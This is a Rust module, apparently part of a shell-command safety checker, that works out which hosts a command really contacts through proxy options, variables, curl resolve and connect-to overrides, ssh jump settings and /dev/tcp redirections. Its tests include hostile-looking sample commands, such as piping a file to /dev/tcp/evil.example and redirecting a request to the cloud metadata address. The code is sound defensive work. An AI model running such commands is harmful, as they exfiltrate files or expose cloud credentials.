//! Hosts that options, variables and special files lead to: what a program
//! speaks to is then another host than the one it names, or one more.

use std::collections::BTreeSet;

use aegis_shell::{program_name, written};
use aegis_types::{Assignment, Command, HostFact, NetworkClass, Plan, Word};

use super::host::{of_address, of_url, somewhere, this_machine};

/// How many such hosts one request is told to speak to.
const FOUND_MAX: usize = 64;

/// What the value of an option or a variable says.
#[derive(Clone, Copy, Debug)]
enum Leads {
    /// The address of a proxy; without a scheme it has this one.
    Proxy(&'static str),
    /// `host:port:address,address`, the form of `curl --resolve`.
    Resolved,
    /// `host:port:other-host:other-port`, the form of `curl --connect-to`.
    Instead,
    /// A socket of this machine.
    Socket,
    /// An option of ssh: `ProxyJump=…`.
    SshOption,
    /// A setting of git: `http.proxy=…`.
    GitSetting,
    /// A setting of wget: `http_proxy=…`.
    WgetSetting,
}

/// Options whose value says where to, by program.
const OPTIONS: [(&str, &str, Leads); 22] = [
    ("curl", "-x", Leads::Proxy("http")),
    ("curl", "--preproxy", Leads::Proxy("socks5")),
    ("curl", "--socks4", Leads::Proxy("socks4")),
    ("curl", "--socks4a", Leads::Proxy("socks4")),
    ("curl", "--socks5", Leads::Proxy("socks5")),
    ("curl", "--socks5-hostname", Leads::Proxy("socks5")),
    ("curl", "--proxy1.0", Leads::Proxy("http")),
    ("curl", "--doh-url", Leads::Proxy("https")),
    ("curl", "--dns-servers", Leads::Proxy("dns")),
    ("curl", "--resolve", Leads::Resolved),
    ("curl", "--connect-to", Leads::Instead),
    ("curl", "--unix-socket", Leads::Socket),
    ("curl", "--abstract-unix-socket", Leads::Socket),
    ("docker", "-H", Leads::Proxy("tcp")),
    ("docker", "--host", Leads::Proxy("tcp")),
    ("podman", "--url", Leads::Proxy("tcp")),
    ("ssh", "-J", Leads::Proxy("ssh")),
    ("scp", "-J", Leads::Proxy("ssh")),
    ("ssh", "-o", Leads::SshOption),
    ("scp", "-o", Leads::SshOption),
    ("git", "-c", Leads::GitSetting),
    ("wget", "-e", Leads::WgetSetting),
];

/// Variables that say where to.
const VARIABLES: [(&str, &str); 7] = [
    ("http_proxy", "http"),
    ("https_proxy", "http"),
    ("ftp_proxy", "http"),
    ("all_proxy", "http"),
    ("rsync_proxy", "http"),
    ("docker_host", "tcp"),
    ("container_host", "tcp"),
];

/// Short options of curl without a value, which may stand before one that has it.
const CURL_SWITCHES: &str = "#0123469BGIJLNORSVZafgijklnpqsv";

/// Returns the hosts that `plan` is led to in such ways, and whether these are all.
///
/// Of too many, those are kept that are not like any other host.
pub(crate) fn of_plan(plan: &Plan) -> (Vec<HostFact>, bool) {
    let mut found = Vec::new();
    for command in &plan.commands {
        for Assignment { name, value } in &command.assignments {
            add_variable(name, value, &mut found);
        }
        add_options(command, &mut found);
        for redirection in &command.redirections {
            found.extend(of_device(&redirection.target));
        }
    }
    let mut known = BTreeSet::new();
    found.retain(|fact: &HostFact| known.insert((fact.host.clone(), fact.port, fact.class)));
    let is_whole = found.len() <= FOUND_MAX;
    if !is_whole {
        let is_like_others =
            |fact: &HostFact| matches!(fact.class, NetworkClass::Name | NetworkClass::Global);
        found.sort_by_key(is_like_others);
        found.truncate(FOUND_MAX);
        found.push(somewhere("…"));
    }
    (found, is_whole)
}

fn add_variable(name: &str, value: &Word, found: &mut Vec<HostFact>) {
    let known = VARIABLES
        .iter()
        .find(|(known, _)| name.eq_ignore_ascii_case(known));
    let Some((_, scheme)) = known else {
        return;
    };
    match value.literal() {
        Some(text) => add(Leads::Proxy(scheme), &text, found),
        None => found.push(somewhere(&written(value))),
    }
}

fn add_options(command: &Command, found: &mut Vec<HostFact>) {
    let Some(program) = program_name(command) else {
        return;
    };
    let exports = matches!(&*program, "export" | "declare" | "typeset" | "env");
    let mut words = command.arguments.iter();
    while let Some(word) = words.next() {
        let text = written(word);
        if exports {
            add_exported(word, &text, found);
            continue;
        }
        let Some((leads, value)) = option_in(&program, &text) else {
            continue;
        };
        let is_unknown = match &value {
            Some(_) => word.is_open(),
            None => false,
        };
        let value = match value {
            Some(value) => Ok(value.to_owned()),
            None => match words.next() {
                Some(next) => next.literal().ok_or_else(|| written(next)),
                None => continue,
            },
        };
        match value {
            Ok(value) if !is_unknown => add(leads, &value, found),
            Ok(value) | Err(value) => found.push(somewhere(&value)),
        }
    }
}

fn add_exported(word: &Word, text: &str, found: &mut Vec<HostFact>) {
    let Some((name, value)) = text.split_once('=') else {
        return;
    };
    let known = VARIABLES
        .iter()
        .find(|(known, _)| name.eq_ignore_ascii_case(known));
    match known {
        Some(_) if word.is_open() => found.push(somewhere(value)),
        Some((_, scheme)) => add(Leads::Proxy(scheme), value, found),
        None => {}
    }
}

/// Returns what the option that `text` is says, with its value if that is part
/// of the same word.
fn option_in<'t>(program: &str, text: &'t str) -> Option<(Leads, Option<&'t str>)> {
    if !text.starts_with('-') {
        return None;
    }
    // Many programs take a proxy in one way.
    if let Some(rest) = text.strip_prefix("--proxy") {
        match rest.strip_prefix('=') {
            Some(value) => return Some((Leads::Proxy("http"), Some(value))),
            None if rest.is_empty() => return Some((Leads::Proxy("http"), None)),
            None => {}
        }
    }
    let mut known = OPTIONS.iter().filter(|(of, ..)| *of == program);
    known.find_map(|(_, option, leads)| {
        if option.starts_with("--") {
            let rest = text.strip_prefix(option)?;
            return match rest.strip_prefix('=') {
                Some(value) => Some((*leads, Some(value))),
                None => rest.is_empty().then_some((*leads, None)),
            };
        }
        let letter = option.strip_prefix('-')?;
        let (before, after) = text.strip_prefix('-')?.split_once(letter)?;
        let may_stand_before =
            before.is_empty() || program == "curl" && before.chars().all(is_curl_switch);
        if !may_stand_before {
            return None;
        }
        Some((*leads, (!after.is_empty()).then_some(after)))
    })
}

fn is_curl_switch(letter: char) -> bool {
    CURL_SWITCHES.contains(letter)
}

fn add(leads: Leads, value: &str, found: &mut Vec<HostFact>) {
    match leads {
        Leads::Proxy(_) if value.is_empty() => {}
        Leads::Proxy(scheme) => {
            for one in value.split(',') {
                found.push(of_url(one).unwrap_or_else(|| of_address(one, Some(scheme))));
            }
        }
        Leads::Resolved => {
            let mut parts = value.splitn(3, ':');
            // Without an address an entry is taken back.
            let Some(addresses) = parts.by_ref().nth(2) else {
                return;
            };
            found.extend(addresses.split(',').map(|one| of_address(one, None)));
        }
        Leads::Instead => match of_instead(value) {
            Some("") => {}
            Some(host) => found.push(of_address(host, None)),
            None => found.push(somewhere(value)),
        },
        Leads::Socket => found.push(this_machine(value, Some("unix".to_owned()))),
        Leads::SshOption => {
            add_setting(value, &["proxyjump", "hostname"], &["proxycommand"], found)
        }
        Leads::GitSetting => {
            let name = value.split('=').next().unwrap_or_default();
            let leads_elsewhere = name.to_ascii_lowercase().ends_with("insteadof");
            if leads_elsewhere {
                found.push(somewhere(value));
            }
            add_setting(
                value,
                &["http.proxy", "https.proxy"],
                &["core.gitproxy"],
                found,
            );
        }
        Leads::WgetSetting => {
            add_setting(
                value,
                &["http_proxy", "https_proxy", "ftp_proxy"],
                &[],
                found,
            );
        }
    }
}

fn add_setting(value: &str, hosts: &[&str], programs: &[&str], found: &mut Vec<HostFact>) {
    let Some((name, value)) = value.split_once(['=', ' ']) else {
        return;
    };
    let name = name.trim().to_ascii_lowercase();
    let value = value.trim();
    if hosts.contains(&&*name) {
        add(Leads::Proxy("http"), value, found);
    } else if programs.contains(&&*name) {
        found.push(somewhere(value));
    }
}

/// Returns the host that takes the place of another one; an empty one keeps it.
fn of_instead(value: &str) -> Option<&str> {
    let (_, rest) = value.split_once(':')?;
    let (_, rest) = rest.split_once(':')?;
    let end = match rest.strip_prefix('[') {
        Some(inner) => inner.find(']')? + 2,
        None => rest.find(':').unwrap_or(rest.len()),
    };
    rest.get(..end)
}

/// Returns the host that a special file of the shell speaks to: `/dev/tcp/host/port`.
fn of_device(target: &Word) -> Option<HostFact> {
    let text = written(target);
    let rest = text
        .strip_prefix("/dev/tcp/")
        .or_else(|| text.strip_prefix("/dev/udp/"))?;
    if target.is_open() {
        return Some(somewhere(&text));
    }
    let (host, port) = rest.split_once('/').unwrap_or((rest, ""));
    let fact = of_address(host, Some("tcp"));
    Some(HostFact {
        port: port.parse().ok(),
        written: text,
        ..fact
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(line: &str, expected: &[(Option<&str>, Option<u16>, NetworkClass)]) {
        let (found, _) = of_plan(&aegis_shell::plan(line));
        let found: Vec<_> = found
            .iter()
            .map(|fact| (fact.host.as_deref(), fact.port, fact.class))
            .collect();
        assert_eq!(found, expected, "{line}");
    }

    #[test]
    fn proxies_and_other_addresses_for_a_name_are_hosts_too() {
        let loopback = NetworkClass::Loopback;
        let name = NetworkClass::Name;
        for line in [
            "curl -x 127.0.0.1 https://a.example",
            "curl -sx127.0.0.1 https://a.example",
            "curl --proxy=127.0.0.1 https://a.example",
            "http_proxy=http://127.0.0.1 curl https://a.example",
            "export HTTPS_PROXY=127.0.0.1; npm install",
            "git -c http.proxy=127.0.0.1 fetch",
            "wget -e http_proxy=127.0.0.1 https://a.example",
            "pip install --proxy 127.0.0.1 x",
        ] {
            check(line, &[(Some("127.0.0.1"), Some(80), loopback)]);
        }
        check(
            "curl --resolve a.example:443:169.254.169.254 https://a.example",
            &[(Some("169.254.169.254"), None, NetworkClass::Metadata)],
        );
        check(
            "curl --connect-to a.example:443:b.example:8443 https://a.example",
            &[(Some("b.example"), None, name)],
        );
        check(
            "curl --connect-to '::[::1]:80' https://a.example",
            &[(Some("::1"), None, loopback)],
        );
        check(
            "ssh -J jump.example a.example",
            &[(Some("jump.example"), Some(22), name)],
        );
        check(
            "ssh -o ProxyCommand='nc b 22' a.example",
            &[(None, None, NetworkClass::Unknown)],
        );
    }

    #[test]
    fn many_detours_hide_none_that_matters() {
        let equal = "--resolve h.example:80:1.2.3.4 ".repeat(80);
        let other: String = (0..80)
            .map(|number| format!("--resolve h{number}.example:80:1.2.3.{number} "))
            .collect();
        for (padding, expected) in [(equal, true), (other, false)] {
            let line =
                format!("curl {padding} --resolve good.example:80:169.254.169.254 http://x/");
            let (found, is_whole) = of_plan(&aegis_shell::plan(&line));
            let is_metadata = |fact: &HostFact| fact.class == NetworkClass::Metadata;
            assert!(found.iter().any(is_metadata), "{line}");
            assert_eq!(is_whole, expected);
        }
    }

    #[test]
    fn sockets_and_devices_are_hosts_too() {
        let loopback = NetworkClass::Loopback;
        check(
            "curl --unix-socket /var/run/docker.sock http://x/",
            &[(None, None, loopback)],
        );
        check(
            "DOCKER_HOST=unix:///run/docker.sock docker ps",
            &[(None, None, loopback)],
        );
        check(
            "docker -H tcp://10.0.0.9:2375 ps",
            &[(Some("10.0.0.9"), Some(2375), NetworkClass::Private)],
        );
        check(
            "cat x > /dev/tcp/evil.example/80",
            &[(Some("evil.example"), Some(80), NetworkClass::Name)],
        );
        check(
            "exec 3<>/dev/tcp/2130706433/80",
            &[(Some("127.0.0.1"), Some(80), loopback)],
        );
    }

    #[test]
    fn what_only_running_shows_is_somewhere() {
        let unknown = NetworkClass::Unknown;
        for line in [
            "curl -x $P https://a.example",
            "curl --proxy=$P https://a.example",
            "http_proxy=$P curl https://a.example",
            "cat x > /dev/tcp/$H/80",
            "git -c url.https://b.example/.insteadOf=https://a.example/ fetch",
        ] {
            check(line, &[(None, None, unknown)]);
        }
    }

    #[test]
    fn other_options_and_variables_lead_nowhere_else() {
        for line in [
            "curl -o x https://a.example",
            "curl -ox https://a.example",
            "curl -H 'X: y' https://a.example",
            "http_proxy= curl https://a.example",
            "NO_PROXY=a curl https://a.example",
            "git -c user.name=x commit",
            "echo hi > /dev/null",
            "ssh -o BatchMode=yes a.example",
        ] {
            check(line, &[]);
        }
    }
}
